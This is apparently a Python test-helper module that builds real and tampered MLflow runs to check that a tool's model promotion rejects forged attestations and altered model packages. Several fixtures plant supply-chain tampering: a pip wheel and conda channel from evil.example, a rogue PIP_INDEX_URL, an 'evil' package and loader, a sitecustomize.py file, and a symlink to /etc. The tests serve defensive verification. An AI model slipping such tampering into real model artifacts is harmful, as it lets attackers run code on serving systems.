"""Runs with a registered model, reproduced by somebody else or tampered with: may they be promoted?

One run is real; the others are made of its record, so that hundreds cost no fit. Everything else is
as commands do it: MLflow's registry, records with seals, re-runs, envelopes.
"""

import json
import secrets
import shutil
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pandas as pd
import yaml
from kedro.framework.startup import bootstrap_project
from kedro.pipeline import Pipeline, node
from sklearn.linear_model import LinearRegression

from lakeproof.attest import keys
from lakeproof.commands.for_others import attestations
from lakeproof.commands.for_others.promote import promote
from lakeproof.commands.project import RunProject
from lakeproof.errors import LakeproofError
from lakeproof.record.facts import Maker, Record
from lakeproof.record.mlflow_store import store
from lakeproof.reproduce.comparison.compare import compare
from small import FILES, SmallProject, in_small_project

from .mutations import KEY, OTHER_KEY

MODEL = "wine"
FUNCTION = ("flavors", "python_function")
CATALOG = "model:\n  type: lakeproof.model.SklearnModel\n  filepath: data/model.skops\n"
US = Maker("a" * 32, f"sha256:{'b' * 64}", f"sha256:{'c' * 64}")
OTHERS = (
    replace(US, checkout="d" * 32),
    replace(US, user=f"sha256:{'e' * 64}"),
    replace(US, machine=f"sha256:{'f' * 64}"),
)


def fit() -> LinearRegression:
    """A model of four rows."""
    rows = pd.DataFrame({"x": [1.0, 2.0, 3.0, 4.0]})
    return LinearRegression().fit(rows, rows["x"] * 2)


@dataclass
class World:
    """A project with one real run, and what further ones are made of.

    Args:
        small: The project.
        first: The record of its run.
        source: The logged model.
    """

    small: SmallProject
    first: Record
    source: str

    @property
    def project(self) -> RunProject:
        """The project as a command sees it, read anew."""
        return RunProject(bootstrap_project(self.small.path), None)

    @property
    def client(self) -> Any:
        """MLflow's."""
        return self.small.client

    def add(self, record: Record, tags: dict[str, str]) -> str:
        """Keep a record on a run of its own, and give its id."""
        experiment = self.client.get_experiment_by_name("small_project").experiment_id
        run_id = self.client.create_run(experiment).info.run_id
        self.put(replace(record, run=replace(record.run, run_id=run_id)), tags)
        self.client.set_terminated(run_id, "FINISHED")
        return run_id

    def put(self, record: Record, tags: dict[str, str]) -> None:
        """Write a record over whatever its run has, with a seal that fits."""
        store.write(self.client, record, "run: {}\n", tags)

    def run(self, maker: Maker = US) -> str:
        """A run like the first one, whose model is registered."""
        first = replace(self.first, run=replace(self.first.run, made_by=maker), previous=None)
        run_id = self.add(first, {})
        self.register(run_id, self.source)
        return run_id

    def register(self, run_id: str, source: str) -> None:
        """Make a version of the registered model."""
        self.client.create_model_version(MODEL, source, run_id)

    def rerun(self, run_id: str, maker: Maker, **changes: Any) -> str:
        """A re-run that passed, by somebody."""
        record = self.small.records.record(run_id)
        again = replace(record.run, reproduces=run_id, made_by=maker)
        tags = {store.REPRODUCES: run_id, store.VERDICT: "REPEATED"}
        return self.add(replace(record, run=again, **changes), tags)

    def attest(self, run_id: str, rerun_id: str, key: Any = KEY) -> None:
        """Sign it, as `kedro reproduce --attest` does."""
        record, rerun = (self.small.records.record(one) for one in (run_id, rerun_id))
        found = compare(record, rerun, is_rerun=True)
        # In the verifier's own process, which is this one.
        attestations.maker_of = lambda _: rerun.run.made_by
        said = attestations.attest(self.project, record, found, key)
        assert said.startswith("Attested"), said

    def envelope_of(self, rerun_id: str) -> str:
        """What lies on a re-run."""
        name = f"runs:/{rerun_id}/{store.FOLDER}/{attestations.NAME}"
        path = self.small.records.artifact(name)
        assert path is not None
        return path.read_text()

    def put_envelope(self, rerun_id: str, text: str) -> None:
        """Lay one there, as anybody with write access can."""
        self.client.log_text(rerun_id, text, f"{store.FOLDER}/{attestations.NAME}")
        self.client.set_tag(rerun_id, store.ATTESTED, "x")

    def model_with(self, change: Callable[[Path], None]) -> str:
        """A copy of the model's folder in which something is another; its place."""
        import mlflow.artifacts

        place = self.small.path / "data" / secrets.token_hex(4)
        found = mlflow.artifacts.download_artifacts(
            self.source, tracking_uri=f"sqlite:///{self.small.path / 'mlflow.db'}"
        )
        shutil.copytree(found, place)
        change(place)
        return str(place)

    def is_promoted(self, run_id: str) -> tuple[bool, str]:
        """Ask for it, and look where the alias is afterwards."""
        try:
            done = promote(self.project, run_id, "champion", MODEL)
            said = " ".join(done.refusals)
        except LakeproofError as error:
            said = error.message
        try:
            version = self.client.get_model_version_by_alias(MODEL, "champion")
        except Exception:
            return False, said
        return version.run_id == run_id, said


@contextmanager
def world(path: Path, policy: str = "signed") -> Iterator[World]:
    """Make the project, its run, and a policy."""
    with in_small_project(path) as small:
        pyproject = FILES["pyproject.toml"] + (
            f'[tool.lakeproof.keys]\nme = "{keys.as_text(KEY.public_key())}"\n'
            f'[tool.lakeproof.promote]\npolicy = "{policy}"\n'
        )
        small.write({"pyproject.toml": pyproject, "conf/base/catalog.yml": CATALOG})
        small.run(Pipeline([node(fit, None, "model")]))
        first = small.record()
        (file,) = (one for one in first.outputs.files if one.dataset == "model")
        small.client.create_registered_model(MODEL)
        yield World(small, first, str(file.artifact).rpartition("/")[0])


def honest(here: World, number: int) -> str:
    """A run that another checkout, user or machine has reproduced and attested."""
    run_id = here.run()
    rerun_id = here.rerun(run_id, OTHERS[number % len(OTHERS)])
    here.attest(run_id, rerun_id)
    return run_id


def nothing_signed(here: World) -> str:
    """Tags and a record that anybody can write."""
    run_id = here.run()
    here.rerun(run_id, OTHERS[0])
    return run_id


def only_tags(here: World) -> str:
    """Not even a re-run."""
    run_id = here.run()
    here.add(here.first, {store.REPRODUCES: run_id, store.VERDICT: "REPEATED"})
    return run_id


def by_the_same(here: World) -> str:
    """Signed, and by whoever made it."""
    run_id = here.run()
    here.attest(run_id, here.rerun(run_id, US))
    return run_id


def by_nobodys_key(here: World) -> str:
    """A key that the project does not list."""
    run_id = here.run()
    here.attest(run_id, here.rerun(run_id, OTHERS[0]), OTHER_KEY)
    return run_id


def of_another_run(here: World) -> str:
    """An honest envelope, laid onto another run's re-run."""
    good = here.run()
    rerun_id = here.rerun(good, OTHERS[0])
    here.attest(good, rerun_id)
    bad = here.run()
    here.put_envelope(here.rerun(bad, OTHERS[0]), here.envelope_of(rerun_id))
    return bad


def changed_envelope(here: World) -> str:
    """A machine that the signer did not name."""
    run_id = here.run()
    rerun_id = here.rerun(run_id, US)
    here.attest(run_id, rerun_id)
    document = json.loads(here.envelope_of(rerun_id))
    import base64

    payload = base64.b64decode(document["payload"]).replace(b"c" * 64, b"d" * 64)
    document["payload"] = base64.b64encode(payload).decode()
    here.put_envelope(rerun_id, json.dumps(document, indent=1) + "\n")
    return run_id


def changed_record(here: World) -> str:
    """A record that was changed after it was attested, and sealed anew."""
    run_id = honest(here, 0)
    record = here.small.records.record(run_id)
    here.put(replace(record, run=replace(record.run, kedro_env="production")), {})
    return run_id


def another_model(here: World) -> str:
    """Registered under the name of the run, and never made by it."""

    def change(folder: Path) -> None:
        content = (folder / "model.skops").read_bytes()
        (folder / "model.skops").write_bytes(content + b"\0")

    return _registered(here, change)


def another_loader(here: World) -> str:
    """The model is the run's, and is not what MLflow would load."""
    return _registered(here, in_yaml("MLmodel", FUNCTION, loader_module="evil"))


def another_place(here: World) -> str:
    """MLflow's `data` goes before `model_path`."""
    return _registered(here, in_yaml("MLmodel", FUNCTION, data="../evil"))


def another_environment(here: World) -> str:
    """The files that are looked at are not those that are served."""
    env = {"virtualenv": "input_example.json", "conda": "input_example.json"}
    return _registered(here, in_yaml("MLmodel", FUNCTION, env=env))


def another_index(here: World) -> str:
    """A variable by which pip would take the same packages from elsewhere."""
    return _registered(here, in_yaml("conda.yaml", (), variables={"PIP_INDEX_URL": "https://e"}))


def another_tool(here: World) -> str:
    """What builds, from an address."""
    tools = ["pip @ https://evil.example/pip.whl"]
    return _registered(here, in_yaml("python_env.yaml", (), build_dependencies=tools))


def more_code(here: World) -> str:
    """A file that MLflow may put on the path."""

    def change(folder: Path) -> None:
        (folder / "code").mkdir()
        (folder / "code/sitecustomize.py").write_text("print('hello')\n")

    return _registered(here, change)


def another_package(here: World) -> str:
    """What serving the model would install."""

    def change(folder: Path) -> None:
        with (folder / "requirements.txt").open("a") as file:
            file.write("\nevil==1.0\n")

    return _registered(here, change)


def another_channel(here: World) -> str:
    """Where a server would take Python from."""

    def change(folder: Path) -> None:
        text = (folder / "conda.yaml").read_text().replace("conda-forge", "https://evil.example")
        (folder / "conda.yaml").write_text(text)

    return _registered(here, change)


def a_link(here: World) -> str:
    """Which leads to whatever its maker likes."""
    return _registered(here, lambda folder: (folder / "input_example.json").symlink_to("/etc"))


def changed_maker(here: World) -> str:
    """The re-run's record says another machine; who has signed it has another opinion."""
    run_id = here.run()
    rerun_id = here.rerun(run_id, US)
    here.attest(run_id, rerun_id)
    record = here.small.records.record(rerun_id)
    tags = {store.REPRODUCES: run_id, store.VERDICT: "REPEATED"}
    here.put(replace(record, run=replace(record.run, made_by=OTHERS[2])), tags)
    return run_id


def in_yaml(name: str, place: tuple[str, ...], **changes: Any) -> Callable[[Path], None]:
    """Make a change of a mapping in a file of the model's folder."""

    def change(folder: Path) -> None:
        document = found = yaml.safe_load((folder / name).read_text())
        for key in place:
            found = found[key]
        found.update(changes)
        (folder / name).write_text(yaml.safe_dump(document))

    return change


def _registered(here: World, change: Callable[[Path], None]) -> str:
    run_id = honest(here, 1)
    here.register(run_id, here.model_with(change))
    return run_id


TAMPERED = (
    *(nothing_signed, only_tags, by_the_same, by_nobodys_key, of_another_run),
    *(changed_envelope, changed_record, another_model, another_loader, more_code, another_package),
    *(another_channel, a_link, changed_maker),
    *(another_place, another_environment, another_index, another_tool),
)
